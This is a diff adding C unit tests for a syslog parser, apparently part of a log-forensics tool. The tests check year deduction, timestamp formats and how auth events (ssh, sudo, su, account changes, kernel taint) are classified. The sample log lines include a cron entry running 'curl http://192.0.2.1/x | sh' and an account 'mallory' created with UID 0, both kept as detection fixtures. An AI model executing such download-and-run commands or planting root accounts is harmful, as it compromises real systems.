@@ -1,0 +1,223 @@
+/* SPDX-License-Identifier: Apache-2.0 */
+/* Syslog: forms of lines, the year that is not written, who did what. */
+#include "unit/parse_kit.h"
+
+static int64_t utc(const char *s)
+{
+	int64_t ns;
+
+	assert_true(time_parse(bytes_str(s), &ns));
+	return ns;
+}
+
+static struct parsed read_log(const char *text, const char *mtime)
+{
+	struct parse_input about = {.path = bytes_str("/var/log/auth.log"),
+				    .mtime_ns = utc(mtime),
+				    .taken_ns = utc(mtime)};
+
+	return parse_text("syslog", text, &about);
+}
+
+static void assert_times(struct parsed *p, const char *const *want)
+{
+	for (size_t i = 0; want[i]; i++) {
+		char t[TIME_TEXT_MAX];
+
+		assert_true(i < p->n_events);
+		if (p->events[i].e.time_ns != utc(want[i]))
+			fail_msg("event %zu is of %s, not %s", i,
+				 time_format(p->events[i].e.time_ns, TIME_US,
+					     t),
+				 want[i]);
+	}
+}
+
+static void years_turn_backwards_from_the_last(void **state UNUSED)
+{
+	static const char *const want[] = {
+		"2012-12-30T10:00:00Z", "2012-12-31T23:59:59Z",
+		"2013-01-01T00:00:01Z", "2013-01-02T10:00:00Z", NULL};
+	struct parsed p = read_log("Dec 30 10:00:00 h a: 1\n"
+				   "Dec 31 23:59:59 h a: 2\n"
+				   "Jan  1 00:00:01 h a: 3\n"
+				   "Jan 2 10:00:00 h a: 4\n",
+				   "2013-01-02T10:00:00Z");
+
+	assert_times(&p, want);
+	assert_true(p.events[0].e.year_deduced);
+	assert_int_equal(p.events[0].e.source, SOURCE_ASSUMED);
+	parsed_release(&p);
+}
+
+static void years_know_leap_days_and_clocks(void **state UNUSED)
+{
+	static const char *const leap[] = {"2020-02-29T01:15:43Z",
+					   "2020-03-01T00:00:00Z",
+					   "2021-01-05T00:00:00Z", NULL};
+	/* A clock that went back an hour is no year. */
+	static const char *const back[] = {"2022-10-30T02:59:59Z",
+					   "2022-10-30T02:00:00Z", NULL};
+	/* Nothing is later than the file. */
+	static const char *const old[] = {"2021-11-11T00:00:00Z", NULL};
+	struct parsed p = read_log("Feb 29 01:15:43 h a: x\n"
+				   "Mar  1 00:00:00 h a: y\n"
+				   "Jan  5 00:00:00 h a: z\n",
+				   "2021-01-05T12:00:00Z");
+
+	assert_times(&p, leap);
+	parsed_release(&p);
+	p = read_log("Oct 30 02:59:59 h a: x\nOct 30 02:00:00 h a: y\n",
+		     "2022-11-01T00:00:00Z");
+	assert_times(&p, back);
+	parsed_release(&p);
+	p = read_log("Nov 11 00:00:00 h a: x\n", "2022-08-14T10:00:00Z");
+	assert_times(&p, old);
+	parsed_release(&p);
+}
+
+static void forms_of_lines(void **state UNUSED)
+{
+	static const char *const want[] = {
+		"2026-11-22T12:42:27.635516Z", "2026-11-22T10:42:28Z",
+		"2026-11-22T12:42:29.003Z",    "2020-01-01T00:00:00Z",
+		"2026-11-22T12:42:30Z",	       NULL};
+	struct parsed p = read_log(
+		"2026-11-22T12:42:27.635516+00:00 h sshd[1]: hello\r\n"
+		"2026-11-22T12:42:28+0200 h cron[2]: hello\n"
+		"\tgoes on\n"
+		"<165>1 2026-11-22T12:42:29.003Z h app 7 ID4 "
+		"[a b=\"c\\]d\"][e f=\"g\"] \xef\xbb\xbftext\n"
+		"Jan 1 2020 00:00:00 h kernel: old\n"
+		"<13>Nov 22 12:42:30 h tag: numbers\n"
+		"MMM 22 12:42:31 h a: no month\n",
+		"2026-11-22T12:42:32Z");
+
+	assert_int_equal(p.n_events, 5);
+	assert_int_equal(p.n_problems, 1);
+	assert_times(&p, want);
+	assert_string_equal(p.events[1].message,
+			    "cron[2]: hello\n\tgoes on");
+	assert_string_equal(p.events[2].message, "text");
+	assert_string_equal(p.events[2].actor, "app");
+	assert_string_equal(p.events[3].actor, "kernel");
+	assert_false(p.events[3].e.year_deduced);
+	assert_int_equal(p.events[0].e.source, SOURCE_OFFSET);
+	assert_int_equal(p.events[0].e.offset, 0);
+	assert_int_equal(p.events[0].e.length, 49);
+	parsed_release(&p);
+}
+
+static const struct {
+	const char *line, *kind, *actor;
+} said[] = {
+	{"sshd-session[5]: Accepted publickey for alice from 192.0.2.1 port "
+	 "22 ssh2: ED25519 SHA256:abc",
+	 "ssh.accepted", "alice"},
+	{"sshd[5]: Failed password for invalid user bob from 192.0.2.1 port "
+	 "22 ssh2",
+	 "ssh.failed", "bob"},
+	{"sshd[5]: Failed password for root from 192.0.2.9 port 1 from "
+	 "203.0.113.5 port 22 ssh2",
+	 "ssh.failed", "root from 192.0.2.9 port 1"},
+	{"sshd[5]: Failed none for invalid user  from 192.0.2.1 port 2 ssh2",
+	 "ssh.failed", ""},
+	{"sshd[5]: message repeated 5 times: [ Failed password for root from "
+	 "192.0.2.1 port 22 ssh2]",
+	 "ssh.failed", "root"},
+	{"sshd[5]: Invalid user web admin from 192.0.2.1 port 3",
+	 "ssh.invalid-user", "web admin"},
+	{"sshd[5]: error: PAM: Authentication failure for root from 192.0.2.1",
+	 "ssh.failed", "root"},
+	{"sshd[5]: error: maximum authentication attempts exceeded for root "
+	 "from 192.0.2.1 port 4 ssh2 [preauth]",
+	 "ssh.max-attempts", "root"},
+	{"sshd[5]: Disconnected from authenticating user root 192.0.2.1 port "
+	 "5 [preauth]",
+	 "ssh.disconnected", "root"},
+	{"sshd[5]: pam_unix(sshd:session): session opened for user "
+	 "alice(uid=1000) by (uid=0)",
+	 "session.opened", "alice"},
+	{"sudo:    alice : TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/bin/sh -c "
+	 "a;b",
+	 "sudo", "alice"},
+	{"sudo:      eve : user NOT in sudoers ; TTY=pts/1 ; PWD=/ ; "
+	 "USER=root ; COMMAND=/bin/sh",
+	 "sudo.denied", "eve"},
+	{"sudo:      eve : 3 incorrect password attempts ; TTY=pts/1 ; "
+	 "COMMAND=/bin/sh",
+	 "sudo.denied", "eve"},
+	{"su[9]: (to root) alice on pts/0", "su", "alice"},
+	{"su[9]: FAILED SU (to root) eve on pts/0", "su.failed", "eve"},
+	{"su[9]: Successful su for root by alice", "su", "alice"},
+	{"useradd[7]: new user: name=mallory, UID=0, GID=0, home=/root",
+	 "account.added", "mallory"},
+	{"usermod[7]: add 'mallory' to group 'sudo'", "account.changed",
+	 "mallory"},
+	{"userdel[7]: delete user 'mallory'", "account.removed", "mallory"},
+	{"passwd[7]: pam_unix(passwd:chauthtok): password changed for root",
+	 "password.changed", "root"},
+	{"CRON[8]: (root) CMD (curl http://192.0.2.1/x | sh)", "cron.run",
+	 "root"},
+	{"/usr/sbin/cron[8]: (bob) CMD (true)", "cron.run", "bob"},
+	{"systemd-logind[1]: New session 4 of user alice.", "session.opened",
+	 "alice"},
+	{"kernel: [12.3] device eth0 entered promiscuous mode",
+	 "kernel.promiscuous", "kernel"},
+	{"kernel: rk: loading out-of-tree module taints kernel.",
+	 "kernel.taint", "kernel"},
+	{"kernel: x[9]: segfault at 0 ip 0", "kernel.segfault", "kernel"},
+	/* Only who may say it is believed. */
+	{"myapp[1]: Accepted password for root from 192.0.2.1 port 22 ssh2",
+	 "syslog", "myapp"},
+	{"nginx: started", "syslog", "nginx"},
+	{"no program at all", "syslog", ""},
+};
+
+static void lines_mean_something(void **state UNUSED)
+{
+	for (size_t i = 0; i < ARRAY_SIZE(said); i++) {
+		char line[512];
+		struct parsed p;
+
+		(void)snprintf(line, sizeof line,
+			       "2026-11-22T12:42:27Z host %s\n", said[i].line);
+		p = read_log(line, "2026-11-22T12:42:27Z");
+		assert_int_equal(p.n_events, 1);
+		if (strcmp(p.events[0].e.kind, said[i].kind) != 0 ||
+		    strcmp(p.events[0].actor, said[i].actor) != 0)
+			fail_msg("%s: %s by '%s'", said[i].line,
+				 p.events[0].e.kind, p.events[0].actor);
+		assert_string_equal(p.events[0].message, said[i].line);
+		parsed_release(&p);
+	}
+}
+
+static void other_texts_are_no_syslog(void **state UNUSED)
+{
+	static const char *const texts[] = {
+		"#!/bin/sh\necho hello\n",
+		"root:x:0:0:root:/root:/bin/bash\n",
+		"", "\0\0\0\0", "Jan is a month\n", "Jan 32 00:00:00 h a: b\n"};
+
+	for (size_t i = 0; i < ARRAY_SIZE(texts); i++) {
+		struct parse_input in = {.content = bytes_str(texts[i]),
+					 .mtime_ns = TIME_UNKNOWN,
+					 .taken_ns = TIME_UNKNOWN};
+
+		assert_null(parser_guess(&in));
+	}
+}
+
+int main(void)
+{
+	static const struct CMUnitTest tests[] = {
+		cmocka_unit_test(years_turn_backwards_from_the_last),
+		cmocka_unit_test(years_know_leap_days_and_clocks),
+		cmocka_unit_test(forms_of_lines),
+		cmocka_unit_test(lines_mean_something),
+		cmocka_unit_test(other_texts_are_no_syslog),
+	};
+
+	return cmocka_run_group_tests(tests, NULL, NULL);
+}
